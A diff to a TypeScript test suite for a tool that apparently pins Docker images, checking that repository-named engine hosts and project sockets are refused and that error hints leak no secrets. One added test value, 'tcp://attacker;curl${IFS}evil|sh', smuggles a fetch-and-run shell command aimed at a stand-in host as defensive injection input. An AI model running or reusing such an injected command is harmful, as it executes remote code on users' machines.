@@ -85,12 +85,16 @@ async function locked({ project }: Bench): Promise<void> {
   await lock(optionsOf(project, { noVerify: true, offline: true }))
 }
 
-async function refusedIn(bench: Bench, host: string, isLocked = true): Promise<void> {
+async function refusedIn(
+  bench: Bench,
+  host: string,
+  commands: readonly (typeof COMMANDS)[number][],
+): Promise<void> {
   const { project } = bench
   project.write('.dock-lock.yaml', stores(host))
   const state = () => [listAll(project.root), project.read('Dockerfile'), project.read('.dock-lock.yaml')]
   const before = state()
-  for (const [name, command, options] of COMMANDS.slice(0, isLocked ? undefined : 3)) {
+  for (const [name, command, options] of commands) {
     const error = await command(optionsOf(project, options)).then(
       () => undefined,
       (reason: unknown) => reason,
@@ -99,7 +103,7 @@ async function refusedIn(bench: Bench, host: string, isLocked = true): Promise<v
     assert.is(error.code, 'config', `${name} ${host}: ${error.message}`)
     assert.is(whereOf(error), '.dock-lock.yaml:2:5')
     assert.match(error.message, 'a repository may not name the engine')
-    assert.match(error.hint ?? '', `--host ${host}`)
+    assert.ok(error.hint?.endsWith(/[$;()]/.test(host) ? '--host' : `--host ${host}`), error.hint)
     if (host.startsWith('tcp:')) assert.match(error.hint ?? '', 'add it to "trust"')
     mustTellNoSecret(`${error.message} ${error.hint}`)
   }
@@ -120,11 +124,12 @@ test('an engine that only the repository names is refused before anything is wri
       `ssh://root@${where}`,
       'npipe:////server/pipe/docker_engine',
       'unix://engine.sock',
+      'tcp://attacker;curl${IFS}evil|sh',
     ]) {
-      await refusedIn(bench, host, false)
+      await refusedIn(bench, host, COMMANDS.slice(0, host === tcp ? 3 : 1))
       project.write('.dock-lock.yaml', '')
       await locked(bench)
-      await refusedIn(bench, host)
+      await refusedIn(bench, host, COMMANDS.slice(host === tcp ? 0 : 3, host === tcp ? undefined : 4))
       await project.exec('rm', ['docker-images.lock'])
     }
     project.write('.dock-lock.yaml', '')
@@ -153,7 +158,7 @@ test('a socket in the project is the repository’s, by whatever path it is name
       project.path('sub/not-yet.sock'),
       project.path('../outside/link/not-yet.sock'),
     ])
-      await refusedIn(bench, `unix://${path}`)
+      await refusedIn(bench, `unix://${path}`, [COMMANDS[0], COMMANDS[3]])
   }))
 
 test('what the user names, trusts or keeps by name is pulled into, with the credentials', () =>
